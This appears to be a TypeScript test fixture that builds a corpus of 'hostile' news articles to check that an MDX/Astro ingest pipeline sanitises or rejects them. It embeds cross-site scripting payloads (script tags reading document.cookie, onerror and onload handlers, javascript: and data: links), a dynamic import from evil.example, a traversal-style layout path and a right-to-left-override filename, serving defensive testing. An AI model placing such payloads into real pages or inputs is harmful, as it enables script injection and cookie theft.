/**
 * The hostile-input corpus: raw articles that carry MDX, JSX, HTML, JavaScript and markdown
 * syntax, odd encodings and sizes. Shared by test/hostile.test.ts (ingest, one CLI run per case,
 * and MDX compilation) and test/hostile-build.test.ts (one Astro build of every accepted case).
 */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';

/** One hostile raw file and what ingest must do with it. */
export type HostileCase = {
  name: string;
  /** The raw file's name in content/raw/. */
  file: string;
  bytes: Uint8Array;
  /** `ok`: ingested; otherwise the reason ingest must give (it names the file too). */
  expect: 'ok' | RegExp;
};

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

/** A plausible article around hostile paragraphs: headline, dateline, prose, sign-off. */
export function articleWith(
  paragraphs: readonly string[],
  headline = 'Talks on the border crossing resume in the capital',
): string {
  return [
    headline,
    'January 28, 2026',
    'Negotiators from both sides met on Wednesday for a third round of talks on the crossing, officials said.',
    ...paragraphs,
    'The next round is expected to take place in March, according to a statement from the ministry.',
    'Hostile Wire',
  ].join('\n\n');
}

const longLine = Array.from(
  { length: 2_000 },
  (_, i) => `Delegates reviewed clause ${i + 1} of the draft agreement at length.`,
)
  .join(' ')
  .slice(0, 100_000);

/** Every case of the corpus. */
export const hostileCases: HostileCase[] = [
  [
    'jsx',
    [
      'The minister wrote <Component prop={window.secret} /> in his note, aides said.',
      '<div onClick={alert(1)}>Click here</div> was posted on the site, officials said.',
      '<Foo bar="baz">',
      '</Foo>',
      '<>fragment</> appeared in the leaked draft, the report said.',
    ],
  ],
  [
    'html-script',
    [
      '<script>alert(document.cookie)</script>',
      'A banner read <img src=x onerror="alert(1)"> before it was removed, witnesses said.',
      '<iframe src="https://evil.example/"></iframe>',
      '<style>body{display:none}</style>',
      '<svg onload=alert(1)><foreignObject>x</foreignObject></svg> was found in the file.',
    ],
  ],
  [
    'javascript-urls',
    [
      '[Read the statement](javascript:alert(1)) the spokesman said on Wednesday.',
      '<a href="javascript:alert(1)">the full text</a> was circulated to reporters.',
      '<javascript:alert(1)>',
      '[ref]: javascript:alert(1)',
      'See [the annex][ref] for details, the ministry said.',
      '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [vb](vbscript:msgbox(1)) links were shared.',
    ],
  ],
  [
    'expressions',
    [
      '{alert(1)}',
      'The figure was {1 + 1} according to {props.source}, the agency said.',
      '{/* hidden comment */}',
      'A template string ${process.env.SECRET} was in the message, investigators said.',
      '{...spread} and {{double}} braces appeared in the draft.',
    ],
  ],
  [
    'esm',
    [
      "import fs from 'node:fs'",
      "export const meta = { title: 'pwned' }",
      'export default function Layout() { return null }',
      "import('https://evil.example/x.js')",
      'Importers said the export figures were lower than expected this year.',
    ],
  ],
  [
    'markdown',
    [
      '![photo](https://evil.example/x.png "tracking pixel") shows the delegation at the airport.',
      '<https://evil.example/autolink>',
      '# Not a heading',
      '> Not a quote either, the source said.',
      '- not a list item',
      '1. not an ordered list',
      '| a | b |\n|---|---|\n| c | d |',
      '```js\nalert(1)\n```',
      '***',
      '<!-- hidden comment -->',
      '\\*not emphasis\\* and _underscores_ and **bold** remain as typed.',
      'Setext heading\n===',
      'Trailing backslash \\',
      'A footnote[^1] was cited.\n\n[^1]: evil footnote',
    ],
  ],
  [
    'entities',
    [
      '&lt;script&gt;alert(1)&lt;/script&gt; was printed in the bulletin, the paper said.',
      'Symbols &amp; &#x3C;b&#x3E; &copy; &nbsp; &#0; &#xD800; &unknown; appeared as typed.',
    ],
  ],
  [
    'controls',
    [
      'The text had \u0001bell\u0007 and \u001b[31mcolour\u001b[0m codes and a \u007f delete, the editor said.',
      'A C1 control \u009b and a next-line\u0085character were pasted in, the desk said.',
    ],
  ],
  ['bom', ['A zero-width\uFEFFno-break space sat in the middle of this sentence, the editor noted.'], { bom: true }],
  ['crlf', ['Windows line ends separate these paragraphs, the archivist said.'], { eol: '\r\n' }],
  ['lone-cr', ['Classic Mac line ends separate these paragraphs, the archivist said.'], { eol: '\r' }],
  [
    'bidi',
    [
      'قال المتحدث باسم الوزارة إن المحادثات ستستمر الأسبوع المقبل.',
      'The file was named \u202Egnp.exe\u202C and \u2066isolated\u2069 text \u200Fmarks\u200E, investigators said.',
      'אמר הדובר כי השיחות יימשכו בשבוע הבא.',
    ],
  ],
  [
    'zero-width',
    [
      'A family emoji 👩‍👩‍👧‍👦 and a flag 🇸🇾 were in the post, the monitor said.',
      'Zero\u200Bwidth\u200Cjoiners\u200Dand\u2060word joiners hide in this sentence, analysts said.',
    ],
  ],
  ['long-line', [longLine]],
  [
    'many-paragraphs',
    Array.from(
      { length: 2_000 },
      (_, i) => `Paragraph ${i + 1} of the transcript records another statement by the delegates.`,
    ),
  ],
  [
    'frontmatter',
    [
      '---',
      'title: Hacked',
      'layout: ../../evil.astro',
      '---',
      'A horizontal rule above was in the original text, the editor said.',
      '+++',
      'draft = true',
      '+++',
    ],
    { prefix: '---\ntitle: "Hacked"\nrawSha256: "0"\n---\n' },
  ],
  [
    'hostile-headline',
    ['The headline of this article carries markup, the desk said.'],
    { headline: 'Talks </script><script>alert(1)</script> resume {x} in <b>bold</b>' },
  ],
].map(([name, paragraphs, o]) => {
  const options = (o ?? {}) as { bom?: boolean; eol?: string; prefix?: string; headline?: string };
  const text = (options.prefix ?? '') + articleWith(paragraphs as string[], options.headline);
  const withEol = options.eol ? text.replaceAll('\n', options.eol) : text;
  return {
    name: name as string,
    file: `hostile-${name}.txt`,
    bytes: utf8((options.bom ? '\uFEFF' : '') + withEol),
    expect: 'ok' as const,
  };
});

hostileCases.push(
  {
    name: 'nul',
    file: 'hostile-nul.txt',
    bytes: utf8(articleWith(['A NUL \u0000 byte sits in this sentence, the lab said.'])),
    expect: /binary, not text \(NUL byte at offset \d+\)/,
  },
  {
    name: 'invalid-utf8',
    file: 'hostile-invalid-utf8.txt',
    bytes: new Uint8Array([...utf8(articleWith(['Caf'])), 0xc3, 0x28, 0xff, 0x0a]),
    expect: /not valid UTF-8 \(first bad byte at offset \d+\)/,
  },
  {
    name: 'latin1',
    file: 'hostile-latin1.txt',
    bytes: new Uint8Array([
      ...utf8('Talks resume\n\nThe caf'),
      0xe9,
      ...utf8(' owner said the talks would resume next week.\n'),
    ]),
    expect: /not valid UTF-8/,
  },
  {
    name: '5mb',
    file: 'hostile-5mb.txt',
    bytes: utf8(
      articleWith(
        Array.from({ length: 90_000 }, (_, i) => `Line ${i} of a very large export repeats the same sentence.`),
      ),
    ),
    expect: /over the 2\.0 MB limit/,
  },
  { name: 'empty', file: 'hostile-empty.txt', bytes: new Uint8Array(), expect: /the file is empty/ },
  { name: 'whitespace', file: 'hostile-whitespace.txt', bytes: utf8(' \n\t\r\n\u00A0\n'), expect: /only whitespace/ },
  {
    name: 'no-sentences',
    file: 'hostile-no-sentences.txt',
    bytes: utf8('<script>\nalert(1)\n</script>\n{x}\n'),
    expect: /no sentences/,
  },
  // Saved web pages: script, event handlers, javascript: and hostile URLs, MDX-looking text and
  // markup in the metadata (test/fixtures/html/hostile.html); a page that is all script.
  { name: 'page', file: 'hostile-page.html', bytes: fixturePage('hostile.html'), expect: 'ok' },
  {
    name: 'page-script-only',
    file: 'hostile-page-script-only.html',
    bytes: utf8(
      '<html><head><script>alert(1)</script></head><body><script>document.write("<p>Injected text of a page that only runs a script.</p>")</script><noscript>Turn on JavaScript to read this article.</noscript></body></html>',
    ),
    expect: /the page has no sentences/,
  },
);

/** A saved page from test/fixtures/html/. */
function fixturePage(name: string): Uint8Array {
  return new Uint8Array(readFileSync(new URL(`fixtures/html/${name}`, import.meta.url)));
}

/** SHA-256 of every file below `dir`, by relative path: a fingerprint of a content tree. */
export function hashTree(dir: string): Map<string, string> {
  return new Map(
    readdirSync(dir, { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile())
      .map((e) => {
        const path = join(e.parentPath, e.name);
        return [relative(dir, path), createHash('sha256').update(readFileSync(path)).digest('hex')] as const;
      })
      .sort(([a], [b]) => a.localeCompare(b)),
  );
}
